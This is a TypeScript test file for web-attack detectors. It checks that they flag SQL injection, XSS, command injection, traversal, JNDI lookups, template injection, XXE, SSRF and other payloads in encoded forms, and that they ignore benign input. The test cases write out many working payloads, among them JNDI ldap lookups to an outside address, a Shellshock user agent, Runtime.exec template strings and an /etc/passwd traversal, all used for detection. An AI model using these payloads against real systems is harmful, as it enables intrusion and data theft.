// The detectors of web attacks: every kind on attacks of our own, in disguises, and silence on what people send.
import { readFileSync } from "node:fs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { attacksIn, detectors } from "./detectors.ts";
import { enrichWeb } from "./enrich.ts";
import { longestValue } from "./web-values.ts";
import type { Fields, RuntimeEvent } from "../event.ts";

const linesOf = (name: string): string[] => readFileSync(new URL(`detectors.fixtures/${name}.txt`, import.meta.url), "utf8").split("\n").filter((line) => line !== "");

const eventOf = (fields: Fields): RuntimeEvent => ({ id: undefined, at: 0, isTimed: true, decoder: "test", logsource: { category: "webserver" }, origin: {}, fields, raw: "" });
const asked = (value: string, escape: (text: string) => string = encodeURIComponent): Fields => enrichWeb(eventOf({ "cs-uri-stem": "/page", "cs-uri-query": `q=${escape(value)}` })).fields;
const kindsIn = (fields: Fields): string[] => Object.keys(fields).filter((name) => name.startsWith("attack.") && name !== "attack.class").map((name) => name.slice(7));

/** How the same value comes over the wire. */
const disguises: Readonly<Record<string, (text: string) => string>> = {
  "escaped once": encodeURIComponent,
  "escaped twice": (text) => encodeURIComponent(encodeURIComponent(text)),
  "every character escaped": (text) => [...new TextEncoder().encode(text)].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join(""),
  "blanks as plus": (text) => encodeURIComponent(text).replaceAll("%20", "+"),
};

describe("runtime/web/detectors", () => {
  for (const kind of ["sqli", "xss", "command", "traversal"]) {
    for (const [name, escape] of Object.entries(disguises)) {
      it(`finds every ${kind} of ours, ${name}`, () => {
        expect(linesOf(kind).filter((line) => !kindsIn(asked(line, escape)).includes(kind))).toEqual([]);
      });
    }
  }

  it("finds SQL in any letter case and with comments for blanks", () => {
    const mixed = (text: string): string => [...text].map((letter, at) => (at % 2 === 0 ? letter.toUpperCase() : letter.toLowerCase())).join("");
    const attacks = linesOf("sqli").filter((line) => /\b(?:union|and|or)\b [\w(']/.test(line) && !/0x|'[a-z]/i.test(line));
    expect(attacks.length).toBeGreaterThan(60);
    expect(attacks.filter((line) => !kindsIn(asked(mixed(line))).includes("sqli"))).toEqual([]);
    expect(attacks.filter((line) => !kindsIn(asked(line.replaceAll(" ", "/**/"))).includes("sqli"))).toEqual([]);
  });

  it("says nothing of what people send, as a parameter, a form's field, JSON and a cookie", () => {
    const spoken = linesOf("benign").flatMap((line) => [
      asked(line), enrichWeb(eventOf({ "cs-uri-stem": "/form", "cs-body": `note=${encodeURIComponent(line)}&ok=1` })).fields, enrichWeb(eventOf({ "cs-uri-stem": "/api", "cs-body": JSON.stringify({ note: line }) })).fields,
      enrichWeb(eventOf({ "cs-uri-stem": "/", "cs-cookie": `last=${encodeURIComponent(line)}` })).fields,
    ].filter((fields) => kindsIn(fields).length > 0).map((fields) => [line, kindsIn(fields)]));
    expect(spoken).toEqual([]);
  });

  it.each([
    ["${jndi:ldap://198.51.100.1/a}", "lookup"], ["${${lower:j}${upper:n}di:${::-r}mi://x/a}", "lookup"], ["${${env:NONE:-j}ndi:dns://x}", "lookup"], ["${j${k8s:k5:-ND}i:ldap://x}", "lookup"],
    ["{{7*7}}", "template"], ["${7*7}", "template"], ["#{7*7}", "template"], ["<%= 7*7 %>", "template"], ["{{''.__class__.__mro__[1].__subclasses__()}}", "template"], ["${T(java.lang.Runtime).getRuntime().exec('id')}", "template"], ["%{(#a=@java.lang.Runtime@getRuntime())}", "template"],
    ["<?php phpinfo(); ?>", "template"], ["${@print(md5(1))}", "template"], ["require('child_process').exec('id')", "template"],
    ["<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hostname\">]>", "xml"], ["<xi:include href=\"x\"/>", "xml"],
    ["http://169.254.169.254/latest/meta-data/", "ssrf"], ["gopher://10.0.0.1:6379/_x", "ssrf"], ["http://2130706433/", "ssrf"], ["http://[::1]:22/", "ssrf"], ["http://0x7f000001/", "ssrf"], ["http://127.0.0.1:6379/", "ssrf"],
    ["*)(uid=*))(|(uid=*", "ldap"], ["admin)(&(objectClass=*)", "ldap"], ["{\"$ne\": null}", "nosql"], ["' || this.password.match(/a/) || '", "nosql"],
    ["('passthru')('id')", "template"], ["[system][0](ls)", "template"], ["$GLOBALS['f'](1)", "template"], ["get_defined_vars()", "template"], ["java.lang.ProcessBuilder", "template"], ["Kernel.exec(\"id\")", "template"], ["process.env", "template"], ["while(1);", "template"], ["@{[system 'id']}", "template"],
    ["/sys/class/net", "traversal"], ["/proc/kallsyms", "traversal"], ["host.docker.internal/admin", "ssrf"], ["http:2130706433/", "ssrf"], ["http://[fe80::1%eth0]/", "ssrf"], ["GET /inner HTTP/1.1", "header"], ["any)(|", "ldap"],
    ["rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "deserialisation"], ["O:8:\"Exploits\":1:{s:1:\"a\";i:1;}", "deserialisation"], ["a\r\nSet-Cookie: x=1", "header"], [`A${"A".repeat(200)}`, "overflow"],
  ])("%s is %s", (value, kind) => { expect(kindsIn(asked(value))).toContain(kind); });

  it("reads the parts of an upload, a form without names and names that are classes", () => {
    const inBody = (body: string): string[] => kindsIn(enrichWeb(eventOf({ "cs-uri-stem": "/upload", "cs-body": body })).fields);
    const part = (name: string, text: string): string => `--b1\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: text/plain\r\n\r\n${text}\r\n--b1--\r\n`;
    expect(inBody(part("notes.txt", "nothing to see"))).toEqual([]);
    expect(inBody(part("../notes.txt", "nothing to see"))).toContain("traversal");
    expect(inBody(part("notes.txt", "1 union select name from users--"))).toContain("sqli");
    expect(inBody("%27+waitfor+delay+%270:0:9%27--")).toContain("sqli");
    expect(inBody("java.lang.Runtime=x")).toContain("template");
    expect(inBody("<?xml version=\"1.0\"?><xml><item>2</item></xml>")).toEqual([]);
  });

  it("reads a redirect by the name of its parameter", () => {
    const of = (query: string): string[] => kindsIn(enrichWeb(eventOf({ "cs-uri-stem": "/login", "cs-uri-query": query })).fields);
    expect(of("next=//evil.example")).toEqual(["redirect"]);
    expect(of("note=//evil.example")).toEqual([]);
    expect(of("next=/account")).toEqual([]);
  });

  it("looks at path, referer, user agent, names of parameters and Base64", () => {
    expect(enrichWeb(eventOf({ "cs-uri-stem": "/item/1%27%20or%20%271%27=%271" })).fields["attack.sqli"]).toMatch(/^path: /);
    expect(enrichWeb(eventOf({ "cs-uri-stem": "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd" })).fields["attack.traversal"]).toMatch(/^path: /);
    expect(enrichWeb(eventOf({ "cs-uri-stem": "/", "cs-referer": "https://a.example/?q=%3Csvg%20onload=alert(1)%3E" })).fields["attack.xss"]).toBe("referer:q: <svg onload=alert(1)>");
    expect(enrichWeb(eventOf({ "cs-uri-stem": "/", "cs-user-agent": "() { :;}; /bin/bash -c id" })).fields["attack.command"]).toMatch(/^user-agent: /);
    expect(enrichWeb(eventOf({ "cs-uri-stem": "/", "cs-uri-query": "pass[$ne]=x" })).fields["attack.nosql"]).toContain("$ne");
    expect(enrichWeb(eventOf({ "cs-uri-stem": "/", "cs-uri-query": `p=${Buffer.from("1 union select login,pass from users").toString("base64")}` })).fields["attack.sqli"]).toContain("union select");
  });

  it("leaves an event without attacks, and one that is no request, as it is", () => {
    for (const fields of [{ "cs-uri-stem": "/", "cs-uri-query": "page=2" }, { "cs-uri-stem": "/wiki/O%27Brien" }]) { const event = eventOf(fields); expect(enrichWeb(event)).toBe(event); }
    const process = { ...eventOf({ CommandLine: "' or 1=1--" }), logsource: { category: "process_creation" } };
    expect(enrichWeb(process)).toBe(process);
  });

  it("never throws, and names only kinds it has", () => {
    const known = new Set(detectors.map(({ id }) => id));
    fc.assert(fc.property(fc.string({ unit: "binary", maxLength: 300 }), fc.constantFrom("query", "path", "body", "cookie", "referer", "user-agent", "header"), (text, place) => {
      for (const kind of attacksIn({ place, name: "x", text }).keys()) if (!known.has(kind)) return false;
      return true;
    }), { numRuns: 2000 });
  });

  it("takes no longer than the length allows, whatever is repeated", () => {
    // What makes careless expressions and parsers go back again and again.
    const parts = ["'", "\"", "(", "((", "or 1", "/*", "--", "a ", "<", "<a ", "<a b=", "${", "{{", "../", "..;/", "$(", "`", "; ", "|", "%00", "\\", "select ", "union select ", "1,", "a.b.", "x=", "[", "!!", "://", "http://a@", " -c", "wget ", "O:1:", "for /f ", "if a==", "a=b&&", "@{[", "{% if ", "::int", "case when ", "while(!", "` a", "\r\n", "&#", "chr(1)||", "on", " onx=", "javascript:"];
    for (const part of parts) {
      const value = { place: "query", name: "x", text: part.repeat(Math.ceil(longestValue / part.length)) } as const;
      const started = process.cpuUsage();
      attacksIn(value);
      const { user, system } = process.cpuUsage(started);
      expect({ part, slow: (user + system) / 1000 > 400 }).toEqual({ part, slow: false });
    }
  }, 60_000);
});
